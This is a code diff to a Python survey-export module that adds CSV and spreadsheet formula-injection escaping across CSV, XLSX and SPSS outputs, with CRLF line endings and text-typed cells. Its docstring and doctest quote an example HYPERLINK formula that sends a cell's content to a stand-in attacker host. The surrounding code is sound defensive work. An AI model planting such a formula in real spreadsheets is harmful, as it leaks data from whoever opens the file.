@@ -6,6 +6,13 @@ All formats start from the one adapter (:func:`survey.adapter.wave_responses_fra
 an exported CSV is exactly what the scoring engine reads, and importing it again
 (:mod:`survey.services.imports`) stores the same answers.  Residents' comments are left
 out unless asked for: they may hold personal details and are never published raw.
+
+Every text cell of every format goes through :func:`formula_safe` (OWASP's CSV-injection
+rule): a resident's comment such as ``=HYPERLINK("http://evil.example/?x="&A1,"click")``
+reaches the office's spreadsheet as text, never as a formula it would run.  Workbook
+cells are written as text cells (``data_type "s"``), never formulas.  The escape is
+reversible (:func:`formula_unescaped`), and the import undoes it, so an export imported
+again stores the original text.
 """
 
 from __future__ import annotations
@@ -66,6 +73,59 @@ STATE_LABELS = {"submitted": ("已提交", "Submitted"), "partial": ("未完成"
 MISSING_NOTE = ("空白 = 缺失（含“不适用/不清楚”）", "empty = missing (includes 'not applicable / don't know')")
 
 _SPSS_NAME = re.compile(r"[^A-Za-z0-9_]")
+
+#: First characters that make a spreadsheet read a cell as a formula (OWASP's list, with
+#: the full-width forms that an IME types and some spreadsheets also accept).
+FORMULA_STARTS = frozenset("=+-@\t\r＝＋－＠")
+#: A plain number (``-5``, ``+2.5``, ``-1e3``): kept as it is, never prefixed.
+_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
+
+
+def formula_safe(text: str) -> str:
+    """``text`` as a spreadsheet cell that can never run: ``'`` before a formula start.
+
+    A cell starting with ``= + - @``, a tab, a carriage return or ``＝ ＋ － ＠`` gets a
+    leading apostrophe (OWASP's CSV-injection rule), unless it is a plain number such as
+    ``-5``.  Text that already starts with an apostrophe followed by one of those (or by
+    another apostrophe) gets one more, so that :func:`formula_unescaped` restores every
+    text exactly.
+
+    Examples
+    --------
+    >>> formula_safe('=HYPERLINK("http://evil.example","click")')
+    '\'=HYPERLINK("http://evil.example","click")'
+    >>> formula_safe("-5"), formula_safe("门诊排队太久")
+    ('-5', '门诊排队太久')
+    """
+    if not text:
+        return text
+    first = text[0]
+    if first in FORMULA_STARTS and not _PLAIN_NUMBER.fullmatch(text):
+        return "'" + text
+    if first == "'" and len(text) > 1 and (text[1] in FORMULA_STARTS or text[1] == "'"):
+        return "'" + text
+    return text
+
+
+def formula_unescaped(text: str) -> str:
+    """Undo :func:`formula_safe` (for a file exported by Manyi and imported again)."""
+    if len(text) > 1 and text[0] == "'" and (text[1] in FORMULA_STARTS or text[1] == "'"):
+        return text[1:]
+    return text
+
+
+def _safe_cell(value: Any) -> Any:
+    return formula_safe(value) if isinstance(value, str) else value
+
+
+def _formula_safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
+    """A copy of ``frame`` with every text cell and column name passed through :func:`formula_safe`."""
+    out = frame.copy()
+    for column in out.columns:
+        if not (pd.api.types.is_numeric_dtype(out[column]) or pd.api.types.is_bool_dtype(out[column])):
+            out[column] = out[column].map(_safe_cell, na_action="ignore")
+    out.columns = [_safe_cell(column) for column in out.columns]
+    return out
 
 
 class ExportError(ValueError):
@@ -238,7 +298,10 @@ def long_frame(frame: pd.DataFrame) -> pd.DataFrame:
 
 
 def _csv_bytes(frame: pd.DataFrame) -> bytes:
-    return frame.to_csv(index=False, lineterminator="\n").encode("utf-8")
+    """UTF-8 CSV with CRLF line ends (RFC 4180), so that a cell holding a carriage return
+    is quoted: with ``\n`` line ends Python's writer leaves a lone ``\r`` unquoted, and a
+    spreadsheet would start a new row there — where ``=…`` after it would run."""
+    return _formula_safe_frame(frame).to_csv(index=False, lineterminator="\r\n").encode("utf-8")
 
 
 def _about_rows(wave: Wave, rows: int, *, include_partial: bool, include_comments: bool) -> list[tuple[str, str]]:
@@ -262,30 +325,37 @@ def _xlsx_bytes(frame: pd.DataFrame, entries: Sequence[CodebookEntry], about: li
     workbook = Workbook(write_only=True)
     bold = Font(bold=True)
 
-    def header(sheet: Any, names: Sequence[str]) -> list[Any]:
-        cells = []
-        for name in names:
-            cell = WriteOnlyCell(sheet, value=name)
-            cell.font = bold
-            cells.append(cell)
-        return cells
+    def cells(sheet: Any, values: Sequence[Any], *, font: Font | None = None) -> list[Any]:
+        """Write-only cells; text is formula-safe and typed as text, never as a formula
+        (openpyxl would otherwise make any string starting with ``=`` a formula)."""
+        row = []
+        for value in values:
+            if isinstance(value, str):
+                cell = WriteOnlyCell(sheet, value=formula_safe(value))
+                cell.data_type = "s"
+            else:
+                cell = WriteOnlyCell(sheet, value=value)
+            if font is not None:
+                cell.font = font
+            row.append(cell)
+        return row
 
     about_sheet = workbook.create_sheet("说明 About")
     for key, value in about:
-        about_sheet.append([key, value])
+        about_sheet.append(cells(about_sheet, [key, value]))
 
     data_sheet = workbook.create_sheet("responses")
     data_sheet.freeze_panes = "B2"
-    data_sheet.append(header(data_sheet, list(frame.columns)))
+    data_sheet.append(cells(data_sheet, list(frame.columns), font=bold))
     columns = [frame[column].astype(object).where(frame[column].notna(), None).tolist() for column in frame.columns]
     for row in zip(*columns):
-        data_sheet.append(list(row))
+        data_sheet.append(cells(data_sheet, row))
 
     book_sheet = workbook.create_sheet("codebook")
     table = codebook_frame(entries)
-    book_sheet.append(header(book_sheet, list(table.columns)))
+    book_sheet.append(cells(book_sheet, list(table.columns), font=bold))
     for row in table.itertuples(index=False):
-        book_sheet.append(list(row))
+        book_sheet.append(cells(book_sheet, list(row)))
 
     buffer = io.BytesIO()
     workbook.save(buffer)
@@ -310,28 +380,28 @@ def _sav_bytes(frame: pd.DataFrame, entries: Sequence[CodebookEntry], wave: Wave
             if unknown:
                 raise ExportError(f"column {column} holds values the codebook does not know: {sorted(unknown)}")
             out[name] = series.astype(str).map(codes).astype("float64")
-            value_labels[name] = {codes[value]: zh for value, zh, _en in entry.values}
+            value_labels[name] = {codes[value]: formula_safe(zh) for value, zh, _en in entry.values}
             measures[name] = "ordinal" if column == "age_group" else "nominal"
             formats[name] = "F2.0"
         elif entry.kind == "likert":
             out[name] = series.astype("Float64").astype("float64")
-            value_labels[name] = {float(code): zh for code, zh, _en in entry.values}
+            value_labels[name] = {float(code): formula_safe(zh) for code, zh, _en in entry.values}
             measures[name] = "ordinal"
             formats[name] = "F1.0"
         elif entry.kind == "number":
             out[name] = pd.to_numeric(series, errors="coerce").astype("float64")
             measures[name] = "scale"
         else:
-            out[name] = series.fillna("").astype(str)
+            out[name] = series.fillna("").astype(str).map(formula_safe)
             measures[name] = "nominal"
-    labels = {entry.spss_name: entry.label_zh for entry in entries}
+    labels = {entry.spss_name: formula_safe(entry.label_zh) for entry in entries}
     handle, path = tempfile.mkstemp(suffix=".sav")
     os.close(handle)
     try:
         pyreadstat.write_sav(
             out,
             path,
-            file_label=(wave.title_zh or wave.code)[:64],
+            file_label=formula_safe((wave.title_zh or wave.code)[:63]),
             column_labels=labels,
             variable_value_labels=value_labels,
             variable_measure=measures,
